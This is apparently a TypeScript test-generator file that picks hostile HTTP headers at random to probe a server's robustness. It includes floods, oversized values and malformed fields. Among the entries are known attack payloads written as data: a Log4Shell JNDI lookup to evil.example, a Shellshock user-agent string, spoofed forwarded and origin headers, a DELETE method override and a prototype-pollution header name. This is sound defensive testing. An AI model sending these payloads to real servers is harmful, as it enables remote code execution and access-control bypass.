// Headers that lie, flood, smuggle or ask for what is not here. The frame of the message stays whole: breaking that is
// for the raw corpus.
import type { Dice } from '../dice.js'
import { strangeTexts } from '../schema/values.js'
import type { Header } from './case.js'

const hostile: readonly Header[] = [
  ['accept', 'text/html'],
  ['accept', '*/*;q=0'],
  ['accept-encoding', 'gzip, br'],
  ['accept-language', `${'x'.repeat(2_000)}`],
  ['connection', 'upgrade'],
  ['connection', 'content-type'],
  ['content-type', ''],
  ['content-type', 'text/plain'],
  ['content-type', 'application/xml'],
  ['content-type', 'multipart/form-data; boundary=x'],
  ['content-type', 'application/x-www-form-urlencoded'],
  ['content-type', 'application/json; charset=utf-16'],
  ['content-type', 'application/json; charset=utf-8; charset=latin1'],
  ['content-type', 'application/json;;;'],
  ['content-type', 'application/json, text/plain'],
  ['content-type', `application/${'j'.repeat(500)}`],
  ['content-type', 'application/cloudevents+json'],
  ['content-type', 'application/cloudevents-batch+json'],
  ['content-type', 'application/json-patch+json'],
  ['content-encoding', 'gzip'],
  ['content-encoding', 'br'],
  ['content-encoding', 'identity'],
  ['content-language', 'de'],
  ['cookie', `a=${'b'.repeat(3_000)}`],
  ['expect', 'miracles'],
  ['forwarded', 'for=127.0.0.1;host=evil.example'],
  ['x-forwarded-for', '127.0.0.1'],
  ['x-forwarded-host', 'evil.example'],
  ['if-match', '*'],
  ['if-none-match', '"x"'],
  ['if-modified-since', 'Thu, 01 Jan 2099 00:00:00 GMT'],
  ['last-event-id', 'abc'],
  ['last-event-id', '~~~'],
  ['last-event-id', 'WyJ0YWlsIiwxXQ~a%zz'],
  ['last-event-id', 'x'.repeat(5_000)],
  ['origin', 'https://evil.example'],
  ['origin', 'null'],
  ['sec-fetch-site', 'cross-site'],
  ['range', 'bytes=0-1'],
  ['te', 'trailers'],
  ['traceparent', '00-00000000000000000000000000000000-0000000000000000-00'],
  ['traceparent', 'not a trace'],
  ['traceparent', '00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01'],
  ['tracestate', 'x'.repeat(600)],
  ['baggage', 'tenant=globex'],
  ['upgrade', 'websocket'],
  ['upgrade', 'h2c'],
  ['user-agent', '() { :;}; echo'],
  ['x-http-method-override', 'DELETE'],
  ['x-original-url', '/v1/doctor'],
  ['x-request-id', 'a b'],
  ['x-request-id', 'x'.repeat(101)],
  ['x-request-id', '${jndi:ldap://evil.example}'],
  ['ce-specversion', '1.0'],
  ['ce-specversion', '9.9'],
  ['ce-id', '%00'],
  ['ce-id', '%zz'],
  ['ce-id', '"quoted \\" text"'],
  ['ce-data', '{}'],
  ['ce-tenant', 'globex'],
  ['ce-time', 'yesterday'],
  ['ce-version', '0'],
  ['ce-', 'x'],
  [`ce-${'n'.repeat(300)}`, 'x'],
  ['ce-__proto__', 'x'],
  ['ce-source', '\u00ff\u00fe'],
]

/** One fault or several, as headers behind those that are there. */
export function hostileHeaders(dice: Dice): { readonly headers: readonly Header[]; readonly says: string } {
  const kind = dice.weighted({ one: 10, several: 3, text: 3, flood: 1, large: 1 })
  if (kind === 'one') {
    const [name, value] = dice.pick(hostile)
    return { headers: [[name, value]], says: `${name.slice(0, 30)}: ${value.slice(0, 30)}` }
  }
  if (kind === 'several') {
    return {
      headers: Array.from({ length: dice.between(2, 6) }, () => dice.pick(hostile)),
      says: 'several headers',
    }
  }
  if (kind === 'text') {
    const name = dice.pick([
      'ce-subject',
      'ce-partitionkey',
      'traceparent',
      'x-anything',
      'referer',
      'last-event-id',
    ])
    return { headers: [[name, asHeader(dice.pick(strangeTexts))]], says: `a strange text in ${name}` }
  }
  if (kind === 'flood') {
    const count = dice.pick([100, 1_000, 1_500])
    return {
      headers: Array.from({ length: count }, (_, at) => [`a${at % 7}`, 'b'] as const),
      says: `${count} headers`,
    }
  }
  return {
    headers: [['x-large', 'x'.repeat(dice.pick([8_000, 15_000, 17_000, 70_000]))]],
    says: 'a large header',
  }
}

// Bytes as a careless client puts them there.
const asHeader = (text: string) =>
  Buffer.from(text)
    .toString('latin1')
    .replaceAll(/[\r\n\0]/g, ' ')
